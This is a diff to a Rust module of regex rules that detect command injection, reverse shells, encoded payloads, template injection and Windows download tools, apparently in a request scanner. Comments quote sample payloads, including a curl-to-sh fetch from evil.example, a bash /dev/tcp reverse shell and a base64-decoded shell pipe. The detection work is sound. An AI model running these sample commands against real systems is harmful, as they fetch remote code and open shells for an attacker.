@@ -14,7 +14,7 @@ mod tests;
 /// A pattern from its parts: strings, and the words below.
 macro_rules! shell {
     // What ends a command, as it is or encoded.
-    (@SEP) => { r"(?:[;|&\n\r]|%(?:25)?(?:0[ad]|3b|7c|26))" };
+    (@SEP) => { r"(?:[;|&\n\r]|\\[nr]|%(?:25)?(?:0[ad]|3b|7c|26))" };
     // What stands between a command and its arguments.
     (@SP) => { r"(?:[\s+<]|%(?:20|09)|\$\{?ifs\b\}?(?:\$\d)?)+" };
     // The command's directory, and what may stand before it.
@@ -24,7 +24,7 @@ macro_rules! shell {
     // Out of a value that no list of names has: nothing, a number, an address, a file, a closed quote.
     (@OUT_OF_VALUE) => { r#"^(?:[^\s;|&$`]*(?:\.\w+|\d|['")\]}/=%@]))?(?:[\s+]|%20)*"# };
     // Nothing more, or the next command.
-    (@END) => { r#"(?:[\s+]|%20)*(?:$|[;&#)'"`>\n]|//|\|\||%(?:0[ad0]|23|3b|26))"# };
+    (@END) => { r#"(?:\|['"]?$|(?:[\s+]|%20)*(?:$|[;&#)'"`>\n]|//|\\n|\|\||%(?:0[ad0]|23|3b|26)))"# };
     (@$literal:literal) => { $literal };
     ($($part:tt)+) => { concat!("(?i)", $(shell!(@$part)),+) };
 }
@@ -40,7 +40,7 @@ pub(super) const RULES: &[(&str, &str)] = &[
             OUT_OF_VALUE SEP r"+" DIR
             r"(?:(?:id|pwd|ls|dir|ps|env|printenv|set|hostname|ifconfig|ipconfig|netstat|systeminfo|tasklist|phpinfo\(\)|ver)(?:" SP r"(?:[-/~.*][\w/.*-]*|\w:\S*|aux))*" END
             r"|(?:cat|head|tail|more|less|tac|nl|od|xxd|base64|strings|grep|type|rm|cp|mv|chmod|touch|del|find)" SP r#"[-/~.*$"'{?\\%]"#
-            r"|echo" SP r"[\w$'\x22]|(?:curl|wget|lynx|t?ftp|nslookup|dig|host|ping|ncat|nc|telnet|ssh|scp)(?:\.exe)?" SP r"(?:-\S|\S*[.:$`]\S|\d)"
+            r"|(?:echo|start)" SP r"[\w$'\x22]|net1?" SP r"(?:user|view|group|localgroup)\b|(?:curl|wget|lynx|t?ftp|nslookup|dig|host|ping|ncat|nc|telnet|ssh|scp)(?:\.exe)?" SP r"(?:-\S|\S*[.:$`]\S|\d)"
             r"|(?:ba|z|da|k|c)?sh" SP r"[-/]|(?:python\d?|perl|ruby|php|node|powershell|pwsh|cmd)(?:\.exe)?" SP r"[-/])"
         ],
     ),
@@ -48,7 +48,7 @@ pub(super) const RULES: &[(&str, &str)] = &[
     (
         "command_injection.substituted_command",
         shell![
-            r"(?:^[^\s$`=]*\$\(" DIR r"|^[^\s`]*[\w/.;|&=@:'\x22-]`)(?:id|whoami|pwd|ls|uname|hostname|env|(?:cat|curl|wget|ping|nslookup|dig|sleep|echo|printf|expr|base64|touch|rm|nc|bash|sh)" SP r"\S.*)(?:" SP r"-\w+)?\s*[)`;|&>]"
+            r"(?:^[^\s$`=]*\$\(" DIR r"|^[^\s`]*(?:[\w/.;|&@:'\x22-]|[?&-]\w+=)`)(?:id|whoami|ls|uname" SP r"-a|hostname|env|(?:python\d?|perl|php|cat|curl|wget|ping|nslookup|dig|sleep|echo|printf|expr|base64|touch|rm|nc|bash|sh)" SP r"\S.*)(?:" SP r"-\w+)?\s*[)`;|&>]"
             r"|^\s*`(?:id|whoami|uname\s-a|cat\s/etc/\w+|ping\s-[cn]\s\d.*)`\s*$"
         ],
     ),
@@ -76,7 +76,7 @@ pub(super) const RULES: &[(&str, &str)] = &[
     // Names in pieces: `;w\ho\ami`, `;c''at`, `|w^h^o^a^m^i`.
     (
         "command_injection.split_word",
-        shell![SEP DIR r#"(?:[a-z]{1,2}[\\^][a-z]{1,2}[\\^]|[a-z]+(?:''|"")[a-z]+|[a-z]+\$[@*][a-z]|[a-z]{1,2}['"][a-z]{1,2}['"][a-z]|["'][a-z]["'][a-z]|[a-z]+\$\{?[a-z\d]\}?[a-z]*\s+/)|\$\(rev<<<|\$'(?:\\x\w\w){2}"#],
+        shell![SEP DIR r#"(?:[a-z]{1,2}(?:\\[aceg-moqpuyz][a-z]?\\|\^[a-z]{1,2}\^)|[a-z]+(?:''|"")[a-z]+|[a-z]+\$[@*][a-z]|[a-z]{1,2}['"][a-z]{1,2}['"][a-z]|'[a-z]'[a-z]|"[a-z]"[a-z]|[a-z]+\$\{?[a-z\d]\}?[a-z]*\s+/)|\$\(rev<<<|\$'(?:\\x\w\w){2}"#],
     ),
     // A program from elsewhere, run at once: `;curl http://evil.example/x|sh`.
     (
@@ -89,14 +89,14 @@ pub(super) const RULES: &[(&str, &str)] = &[
     // A program that was encoded: `echo aWQ=|base64 -d|sh`.
     (
         "command_injection.decoded_command",
-        shell![r"(?:base64(?:" SP r"|\.)-+d\w*|xxd" SP r"-r|openssl\s+enc|\|\s*rev|(?:^|[;|&\n(])\s*(?:echo|printf)" SP r"[^|]*)[^|\n]*\|\s*(?:/\w+)*/?(?:ba|z|da|k)?sh\s*(?:$|[-;&|<)'\x22`])|<<<\s*\$?\(?(?:base64|xxd)|\$\((?:base64\s+-d|printf\s+['\x22]?\\|echo\s[^)]*base64\s+-d)"],
+        shell![r"(?:base64(?:" SP r"|\.)-+d\w*|xxd" SP r"-r|openssl\s+enc|\|\s*rev|(?:^|[;|&\n(])\s*(?:echo|printf)" SP r"[^|]*)[^|\n]*\|\s*(?:/\w+)*/?(?:ba|z|da|k)?sh\s*(?:$|[-;&|<)'\x22`])|<<<\s*\$?\(?(?:base64|xxd)|\$\((?:base64\s+-d|printf\s+['\x22]?\\(?:x[4-7]|1[0-7])|echo\s[^)]*base64\s+-d)"],
     ),
     // A shell that calls back: `bash -i >& /dev/tcp/192.0.2.1/443 0>&1`.
     (
         "command_injection.reverse_shell",
         shell![
-            r"(?:/dev/(?:tcp|udp)/[\w.$]+/|\b(?:nc|ncat|netcat)(?:\.\w+)?\s[^;\n]*-\w*[ec]\w*\s*\S*(?:sh|cmd)\b|mkfifo\s[^\n]*\bsh\s+-i|socat\s[^\n]*\bexec:|\bsh\s+-i\s*(?:[<>&|]|\d>)"
-            r"|\bsocket\b[^\n]*(?:dup2|pty\.spawn|subprocess|open\(\s*stdin|\bsh\s-i)|pty\.spawn\(|\b(?:fsockopen|tcpsocket\.\w+)\s*\([^\n]*(?:exec|sh\b)|system\.net\.sockets\.tcpclient)"
+            r"(?:/dev/(?:tcp|udp)/(?:\d|\$|[\w-]+\.[\w.-]+/)|/inet/tcp/\d|\b(?:nc|ncat|netcat)(?:\.\w+)?\s[^;\n]*-\w*[ec]\w*\s*\S*(?:sh|cmd)\b|mkfifo\s[^\n]*\bsh\s+-i|socat\s[^\n]*\bexec:|\bsh\s+-i\s*(?:[<>&|]|\d>)"
+            r"|\bsocket\([^\n]*(?:dup2|pty\.spawn|subprocess|open\(\s*stdin|\bsh\s-i)|pty\.spawn\(|\b(?:fsockopen|tcpsocket\.\w+)\s*\([^\n]*(?:exec|sh\b)|system\.net\.sockets\.tcpclient)"
         ],
     ),
     // PowerShell with a program in its arguments.
@@ -112,7 +112,7 @@ pub(super) const RULES: &[(&str, &str)] = &[
         "command_injection.windows_tool",
         shell![
             r"(?:certutil(?:\.exe)?\s[^\n]*[-/](?:urlcache|decode)\b|bitsadmin(?:\.exe)?\s[^\n]*/transfer|mshta(?:\.exe)?\s+(?:['\x22]?https?:|vbscript:|javascript:)|regsvr32\s[^\n]*/i:\S*(?:http|\\\\)"
-            r"|rundll32(?:\.exe)?\s+(?:javascript:|\\\\|url\.dll)|wmic\s+process\s+call\s+create|net1?\s+(?:user|localgroup)\s[^\n]*\s/add\b|reg\s+save\s+hklm|[;|&]\s*cmd(?:\.exe)?\s*/[ck]|cmd(?:\.exe)?\s+/[ck]\s*['\x22]?(?:powershell|whoami|ping|net\s|type\s|certutil|calc|start\s)|%comspec%|%programfiles:~)"
+            r"|rundll32(?:\.exe)?\s+(?:javascript:|\\\\|url\.dll)|wmic\s+process\s+call\s+create|net1?\s+(?:user|localgroup)\s[^\n]*\s/add\b|reg\s+save\s+hklm|[;|&]\s*cmd(?:\.exe)?\s*/[ck]|cmd(?:\.exe)?\s+/[ck]\s*['\x22]?(?:powershell|whoami|ping|net\s|type\s|certutil|calc|start\s)|[;|&]\s*%comspec%|%programfiles:~)"
         ],
     ),
     // A function of Bash that goes on: `() { :;}; id`.
@@ -127,7 +127,7 @@ pub(super) const RULES: &[(&str, &str)] = &[
         "command_injection.template_object",
         shell![
             r"(?:\{[{%][^\n]*(?:__(?:class|mro|base|bases|subclasses|globals|builtins|init|import|getattribute|getitem)__|\battr\(\s*['\x22]?(?:\\x|_|request)|\bos\.popen|_self\.env|registerundefined|config\.(?:items|from_)|\|\s*(?:map|filter|sort|reduce)\(\s*['\x22](?:system|exec|passthru|shell_exec))"
-            r"|\.__(?:subclasses__\(\)\s*\[|globals__\[|builtins__\b|mro__\[\d\])|\[\s*['\x22]__(?:class|mro|globals|builtins|base)__|__import__\(\s*['\x22](?:os|subprocess|pty|socket|builtins|commands)['\x22]\s*\)\s*\.)"
+            r"|\.__(?:subclasses__\(\)\s*\[|globals__\[|mro__\[\d\]\s*\.)|\[\s*['\x22]__(?:class|mro|globals|builtins|base)__['\x22]\]\s*\[|__import__\(\s*['\x22](?:os|subprocess|pty|socket|builtins|commands)['\x22]\s*\)\s*\.)"
         ],
     ),
     // A template that only shows it is one: `{{7*7}}`.
@@ -145,7 +145,7 @@ pub(super) const RULES: &[(&str, &str)] = &[
         "command_injection.script_call",
         shell![
             r"(?:\b(?:system|exec|shell_exec|passthru|popen|proc_open|eval|assert|include|call_user_func)\s*\(\s*(?:\$_(?:get|post|request|cookie|server)\b|base64_decode\(|gzinflate\(|str_rot13\(|hex2bin\()|<\?(?:php|=)?\s[^\n]*(?:system|passthru|exec|popen|eval|assert)\s*\(|<\?=\s*`"
-            r"|^(?:\d*|[^'\x22\n]*['\x22]\)?\s*)[;.,&|}]+\s*@?(?:system|passthru|shell_exec|exec|phpinfo|popen|proc_open|print\(`)\s*\(|\{(?:system|passthru|exec|php|shell_exec)(?:\(['\x22]|\})|<!--#\s*(?:exec|include|config|echo)\s|<%=?\s*(?:system|exec|`|io\.popen|file\.open|open\(|%x|require)"
+            r"|^(?:\d*[;&|]|[^'\x22\n]*['\x22]\)?\s*[;.,&|}])[;.,&|}]*\s*@?(?:system|passthru|shell_exec|exec|phpinfo|popen|proc_open|print\(`)\s*\(|\{(?:system|passthru|exec|shell_exec)\(['\x22]|\{php\}|<!--#\s*(?:exec|include|config|echo)\s|<esi:(?:include|inline|debug)|import\s+os\b[^\n]*;[^\n]*os\.(?:system|popen)\(|<%=?\s*(?:system|exec|`|io\.popen|file\.open|open\(|%x|require)"
             r"|require\(\s*['\x22]child_process['\x22]\s*\)\s*\.\s*(?:exec|spawn|fork)\w*\(|process\.(?:mainmodule|binding)\b|[#$]\{\s*(?:`|system\(|%x|io\.popen|global\.process|require\()|\b(?:perl|ruby|php|node|lua|awk)\s+[^\n]*\b(?:system|exec)\s*\(?\s*['\x22]|^#\{[^}]*\b(?:exec|spawn)\w*\()"
         ],
     ),
